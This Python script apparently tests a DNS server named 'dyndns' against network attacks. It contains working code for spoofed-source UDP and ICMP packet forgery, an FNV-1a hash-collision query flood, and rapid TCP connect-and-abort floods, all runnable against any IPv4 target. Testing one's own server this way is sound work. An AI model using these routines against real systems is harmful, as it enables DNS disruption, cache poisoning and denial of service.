"""attack.py JOB ARGS...: what somebody off the path, or a client without manners, sends to dyndns.

    stray FROM TO            a datagram from FROM's address and port 53 to each port of TO that is over 1023
    icmp FROM TO RATE SECONDS   forged port-unreachables: TO is told that FROM's port 53 is closed, for ports at random
    alike TO PORT            4,096 questions that FNV-1a takes for one, whatever it starts with
    other TO PORT            4,096 of the same form that it does not
    knock FROM TO RATE SECONDS  TCP connections from FROM to port 53 of TO, each given up at once
Prints how many were sent, or how many hashes there are among them.  Addresses are IPv4; raw sockets need root.
"""
import random
import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack(">%dH" % (len(data) // 2), data))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff


def ip(source, to, protocol, body):
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 0, 0, 64, protocol, 0, source, to)
    return head[:10] + struct.pack(">H", checksum(head)) + head[12:] + body


def raw():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
    return s


def paced(rate, seconds, act):
    start, sent = time.monotonic(), 0
    while (now := time.monotonic() - start) < seconds:
        while sent < rate * now:
            act()
            sent += 1
        time.sleep(0.001)
    return sent


def stray(source, to):
    s, message = raw(), b"\xab\xcd\x81\x80" + bytes(8)
    for port in range(1024, 65536):
        udp = struct.pack(">HHHH", 53, port, 8 + len(message), 0) + message
        s.sendto(ip(socket.inet_aton(source), socket.inet_aton(to), 17, udp), (to, 0))
        if port % 64 == 0:
            time.sleep(0.001)
    return 65536 - 1024


def icmp(source, to, rate, seconds):
    s, server, us = raw(), socket.inet_aton(source), socket.inet_aton(to)

    def act():
        udp = struct.pack(">HHHH", random.randrange(1024, 65536), 53, 40, 0)
        body = struct.pack(">BBHI", 3, 3, 0, 0) + ip(us, server, 17, udp)
        body = body[:2] + struct.pack(">H", checksum(body)) + body[4:]
        s.sendto(ip(server, us, 1, body), (to, 0))
    return paced(float(rate), float(seconds), act)


def knock(source, to, rate, seconds):
    def act():
        s = socket.socket()
        s.setblocking(False)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        s.bind((source, 0))
        try:
            s.connect((to, 53))
        except BlockingIOError:
            pass
        except OSError:
            pass
        s.close()
    return paced(float(rate), float(seconds), act)


def fnv(octets, start):
    for octet in octets:
        start = (start ^ octet) * 0x01000193 & 0xffffffff
    return start


# What an octet of 0 or 1 adds depends on bit 0 of the hash alone, so texts of such octets that meet from
# one start meet from each.  These three of 24 octets, bit 0 first, do; eight in a row make 3^8 names.
ALIKE = [0x394ee8, 0x72bfdf, 0xe55db1]


def names(to, port, texts):
    s, hashes = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), set()
    blocks = [bytes(text >> bit & 1 for bit in range(24)) for text in texts]
    starts = [random.getrandbits(32) for _ in range(4)]
    for i in range(4096):
        parts = [blocks[i // 3 ** n % 3] for n in range(8)]
        name = b"".join(b"\x30" + parts[n] + parts[n + 1] for n in range(0, 8, 2)) + b"\0\0\x01\0\x01"
        hashes.add(tuple(fnv(name, start) for start in starts))
        s.sendto(struct.pack(">6H", i, 256, 1, 0, 0, 0) + name, (to, int(port)))
        if i % 32 == 31:
            time.sleep(0.02)
    return len(hashes)


def alike(to, port):
    return names(to, port, ALIKE)


def other(to, port):
    return names(to, port, [0x394ee9, 0x123456, 0xabcdef])


print(globals()[sys.argv[1]](*sys.argv[2:]))
